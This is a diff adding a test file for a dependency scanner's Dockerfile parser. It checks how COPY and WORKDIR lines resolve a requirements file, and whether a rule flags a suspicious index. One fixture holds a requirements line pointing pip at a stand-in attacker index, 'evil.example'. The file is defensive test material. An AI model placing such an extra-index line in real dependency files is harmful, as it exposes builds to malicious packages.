@@ -1,0 +1,79 @@
+import { describe, expect, it } from 'vitest';
+import { dockerfileCopySource } from '../../../src/deps/parsers/python/dockerfile-copies.js';
+import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
+import { scanWith } from '../../helpers/scan.js';
+import { tempTrees } from '../../helpers/temp-tree.js';
+
+const tree = tempTrees('cp-docker-copies-');
+
+const REPO = new Set(['requirements.txt', 'requirements/prod.txt', 'deploy/Dockerfile', 'deploy/pins.txt', 'ci/x.txt']);
+const isFolder = (p: string) => [...REPO].some((f) => f.startsWith(`${p}/`));
+const sourceOf = (dockerfile: string, text: string, written: string, line: number) =>
+  dockerfileCopySource(dockerfile, text, (p) => REPO.has(p), isFolder)?.(written, line);
+
+// The path an install reads is the image's: WORKDIR, then what the last COPY / ADD before the line put there.
+describe('dockerfileCopySource', () => {
+  it.each([
+    // A file copied under another name.
+    {
+      text: 'FROM p\nWORKDIR /srv\nCOPY requirements/prod.txt ./reqs.txt\nRUN x',
+      written: 'reqs.txt',
+      want: 'requirements/prod.txt',
+    },
+    // Into a folder, under its own name; the path given absolute.
+    {
+      text: 'FROM p\nCOPY requirements/prod.txt /deps/\nRUN x',
+      written: '/deps/prod.txt',
+      want: 'requirements/prod.txt',
+    },
+    // A folder's contents (the context is the repository root; the Dockerfile's folder is tried first).
+    { text: 'FROM p\nWORKDIR /app\nCOPY . .\nRUN x', written: 'requirements.txt', want: 'requirements.txt' },
+    { text: 'FROM p\nCOPY ci /opt/ci\nWORKDIR /opt\nRUN x', written: 'ci/x.txt', want: 'ci/x.txt' },
+    // JSON form, options, a relative WORKDIR after an absolute one, continuation lines.
+    {
+      text: 'FROM p\nWORKDIR /a\nWORKDIR b\nCOPY --chown=1:1 ["requirements/prod.txt", "r.txt"]\nRUN x',
+      written: '/a/b/r.txt',
+      want: 'requirements/prod.txt',
+    },
+    {
+      text: 'FROM p\nCOPY \\\n  requirements/prod.txt \\\n  /r.txt\nRUN x',
+      written: '/r.txt',
+      want: 'requirements/prod.txt',
+    },
+    // The last copy to a path wins.
+    {
+      text: 'FROM p\nCOPY requirements.txt /r.txt\nCOPY requirements/prod.txt /r.txt\nRUN x',
+      written: '/r.txt',
+      want: 'requirements/prod.txt',
+    },
+    // After the line, from another stage, through a variable, or another stage: nothing the file says.
+    { text: 'FROM p\nRUN x\nCOPY requirements/prod.txt /r.txt', written: '/r.txt', want: undefined },
+    { text: 'FROM p\nCOPY --from=build /w/r.txt /r.txt\nRUN x', written: '/r.txt', want: undefined },
+    { text: 'FROM p\nWORKDIR $APP\nCOPY requirements/prod.txt r.txt\nRUN x', written: 'r.txt', want: undefined },
+    { text: 'FROM p\nCOPY requirements/prod.txt /r.txt\nFROM q\nRUN x', written: '/r.txt', want: undefined },
+  ])('$written in $text', ({ text, written, want }) => {
+    const line = text.split('\n').findIndex((l) => l === 'RUN x') + 1;
+    expect(sourceOf('Dockerfile', text, written, line)).toBe(want);
+  });
+
+  it('takes the context from the Dockerfile folder first, then the root', () => {
+    const text = 'FROM p\nCOPY pins.txt /r.txt\nCOPY requirements/prod.txt /s.txt\nRUN x';
+    expect(sourceOf('deploy/Dockerfile', text, '/r.txt', 4)).toBe('deploy/pins.txt');
+    expect(sourceOf('deploy/Dockerfile', text, '/s.txt', 4)).toBe('requirements/prod.txt');
+    expect(sourceOf('deploy/run.sh', text, '/s.txt', 4)).toBeUndefined();
+  });
+});
+
+describe("a Dockerfile's pip install -r", () => {
+  it('reads the file its COPY renamed, not a same-named file of the repository', async () => {
+    const dir = tree({
+      'requirements.txt': 'requests==2.31.0\n',
+      'requirements/prod.lst': '--extra-index-url https://evil.example/simple\nrequests==2.31.0\n',
+      'deploy/Dockerfile':
+        'FROM python:3.12\nWORKDIR /srv\nCOPY requirements/prod.lst requirements.txt\nRUN pip install -r requirements.txt\n',
+    });
+    const r = await scanWith(dir, [pythonDepsStage]);
+    const at = r.findings.filter((f) => f.ruleId === 'CPP070').map((f) => `${f.location.path}:${f.location.line ?? 0}`);
+    expect(at).toEqual(['requirements/prod.lst:1']);
+  });
+});
